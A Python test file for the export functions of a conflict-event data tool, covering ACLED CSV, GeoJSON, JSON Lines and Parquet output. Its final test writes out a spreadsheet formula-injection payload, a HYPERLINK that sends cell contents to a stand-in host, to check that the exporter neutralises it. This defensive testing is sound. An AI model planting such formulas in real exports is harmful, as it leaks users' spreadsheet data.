"""Exports: ACLED CSV layout and formats, GeoJSON (RFC 7946), JSON Lines and Parquet types."""

from __future__ import annotations

import csv
import gzip
import io
import json
import subprocess
import sys
from datetime import date
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from sitrep.export import (
    ACLED_COLUMNS,
    EVENT_SCHEMA,
    export_events,
    write_acled_csv,
    write_geojson,
    write_jsonl,
    write_parquet,
)
from sitrep.export.acled import disorder_type
from sitrep.records import Document, Event, Evidence
from sitrep.store import open_store
from testdata import SHARED_DATA

SITREP = str(Path(sys.executable).with_name("sitrep"))
ACLED_REFERENCE = SHARED_DATA / "acled-syria-battles" / "acled_syria_battles_2017_2023.csv.gz"


def _acled_rows(events: list[Event], **kwargs: object) -> list[dict[str, str]]:
    out = io.StringIO(newline="")
    write_acled_csv(events, out, timestamp=1_700_000_000, **kwargs)  # type: ignore[arg-type]
    return list(csv.DictReader(io.StringIO(out.getvalue())))


@pytest.mark.skipif(
    not ACLED_REFERENCE.exists(), reason=f"ACLED reference export not found at {ACLED_REFERENCE}"
)
def test_acled_columns_match_acled_export_header() -> None:
    with gzip.open(ACLED_REFERENCE, "rt", encoding="utf-8") as stream:
        header = next(csv.reader(stream))
    assert list(ACLED_COLUMNS) == header


def test_acled_csv_formats_like_acled(demo: tuple[Document, list[Event]]) -> None:
    _, events = demo
    rows = _acled_rows(events)
    assert list(rows[0]) == list(ACLED_COLUMNS)
    shelling, clash = rows
    assert shelling["event_date"] == "05 August 2016"
    assert shelling["year"] == "2016"
    assert shelling["iso"] == "760" and shelling["region"] == "Middle East"
    assert shelling["disorder_type"] == "Political violence"
    assert shelling["civilian_targeting"] == "Civilian targeting"
    assert shelling["latitude"] == "36.1955" and shelling["longitude"] == "37.1402"
    assert shelling["fatalities"] == "4"
    assert shelling["timestamp"] == "1700000000"
    # unknown fatalities: ACLED codes 0; empty optional cells stay empty
    assert clash["fatalities"] == "0"
    assert clash["assoc_actor_1"] == "" and clash["civilian_targeting"] == ""


def test_acled_csv_iso_dates(demo: tuple[Document, list[Event]]) -> None:
    rows = _acled_rows(demo[1], date_style="iso")
    assert rows[0]["event_date"] == "2016-08-05"


@pytest.mark.parametrize(
    ("event_type", "sub_event_type", "expected"),
    [
        ("Protests", "Peaceful protest", "Demonstrations"),
        ("Riots", "Violent demonstration", "Demonstrations"),
        ("Riots", "Mob violence", "Political violence"),
        ("Strategic developments", "Agreement", "Strategic developments"),
        ("Battles", "Armed clash", "Political violence"),
    ],
)
def test_acled_disorder_type(event_type: str, sub_event_type: str, expected: str) -> None:
    event = Event(event_id="x", event_type=event_type, sub_event_type=sub_event_type)
    assert disorder_type(event) == expected


def test_geojson_is_rfc7946(demo: tuple[Document, list[Event]]) -> None:
    _, events = demo
    nowhere = events[1].model_copy(update={"event_id": "nowhere", "latitude": None})
    out = io.StringIO()
    assert write_geojson([*events, nowhere], out) == 3
    data = json.loads(out.getvalue())
    assert data["type"] == "FeatureCollection" and "crs" not in data
    first = data["features"][0]
    assert first["type"] == "Feature"
    assert first["geometry"] == {"type": "Point", "coordinates": [37.1402, 36.1955]}  # lon, lat
    assert first["properties"]["event_date"] == "2016-08-05"
    assert first["properties"]["contested"] is True
    assert all(not isinstance(v, (dict, list)) for v in first["properties"].values())
    assert data["features"][2]["geometry"] is None


def test_jsonl_round_trips_events(demo: tuple[Document, list[Event]]) -> None:
    _, events = demo
    out = io.StringIO()
    write_jsonl(events, out)
    back = [Event.model_validate_json(line) for line in out.getvalue().splitlines()]
    assert back == events


def test_parquet_keeps_types(tmp_path: Path, demo: tuple[Document, list[Event]]) -> None:
    _, events = demo
    path = tmp_path / "events.parquet"
    assert write_parquet(events, path) == 2
    table = pq.read_table(path)
    assert table.schema.equals(EVENT_SCHEMA)
    rows = table.to_pylist()
    assert rows[0]["event_date"] == date(2016, 8, 5)
    assert rows[0]["fatalities"] == 4 and rows[1]["fatalities"] is None
    assert rows[0]["claims"][1]["stance"] == "contradicts"
    assert rows[0]["evidence"][0]["start"] == 0
    assert Event.model_validate(rows[0]) == events[0]


def test_parquet_schema_covers_every_event_field() -> None:
    assert set(EVENT_SCHEMA.names) == set(Event.model_fields)
    evidence = EVENT_SCHEMA.field("evidence").type.value_type
    assert [f.name for f in evidence] == list(Evidence.model_fields)


def test_parquet_and_jsonl_keep_an_evidence_note(
    tmp_path: Path, demo: tuple[Document, list[Event]]
) -> None:
    _, events = demo
    item = events[0].evidence[0].model_copy(
        update={"field": "classifier", "note": "classifier: Attack 0.82; rules: Armed clash"}
    )
    noted = events[0].model_copy(update={"evidence": [*events[0].evidence, item]})
    path = tmp_path / "noted.parquet"
    write_parquet([noted], path)
    assert Event.model_validate(pq.read_table(path).to_pylist()[0]) == noted
    out = io.StringIO()
    write_jsonl([noted], out)
    assert Event.model_validate_json(out.getvalue()) == noted


def test_export_events_rejects_unknown_format(tmp_path: Path) -> None:
    from sitrep.errors import ConfigError

    with pytest.raises(ConfigError):
        export_events([], "xlsx", tmp_path / "x")


@pytest.mark.parametrize("fmt", ["acled-csv", "geojson", "jsonl", "parquet"])
def test_export_cli_writes_filtered_events(
    tmp_path: Path, demo: tuple[Document, list[Event]], fmt: str
) -> None:
    doc, events = demo
    from sitrep.records import Extraction

    db = tmp_path / "events.db"
    with open_store(str(db)) as store:
        store.save_extraction(doc, Extraction(doc_id=doc.id, events=events))
    out = tmp_path / f"out.{fmt}"
    result = subprocess.run(
        [SITREP, "export", "--format", fmt, "--db", str(db), "--admin1", "aleppo", str(out)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert "wrote 1 event " in result.stderr
    if fmt == "parquet":
        assert pq.read_table(out).num_rows == 1
    elif fmt == "geojson":
        assert len(json.loads(out.read_text())["features"]) == 1
    elif fmt == "jsonl":
        assert len(out.read_text().splitlines()) == 1
    else:
        assert len(out.read_text().splitlines()) == 2


def test_export_cli_bad_bbox_is_one_line_error(tmp_path: Path) -> None:
    result = subprocess.run(
        [
            SITREP,
            "export",
            "--db",
            str(tmp_path / "e.db"),
            "--bbox",
            "1,2",
            str(tmp_path / "o.csv"),
        ],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 1
    assert "--bbox needs 4" in result.stderr


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
def test_acled_csv_neutralises_formula_cells(
    demo: tuple[Document, list[Event]], start: str
) -> None:
    hostile = f'{start}HYPERLINK("http://x.test/?"&A1,"click")'
    event = demo[1][0].model_copy(
        update={"actor1": hostile, "notes": hostile, "location": f"{start}1+1", "source": hostile}
    )
    out = io.StringIO(newline="")
    write_acled_csv([event], out, timestamp=0)
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    for column in ("actor1", "notes", "location", "source"):
        assert row[column].startswith("'" + start), column
    assert row["latitude"] == "36.1955" and row["fatalities"] == "4"  # numbers stay numbers
    south = event.model_copy(
        update={"latitude": -33.5, "longitude": -70.6, "notes": "one\rtwo\r\nthree"}
    )
    out = io.StringIO(newline="")
    write_acled_csv([south], out, timestamp=0)
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert (row["latitude"], row["longitude"]) == ("-33.5", "-70.6")
    assert row["notes"] == "one\ntwo\nthree"
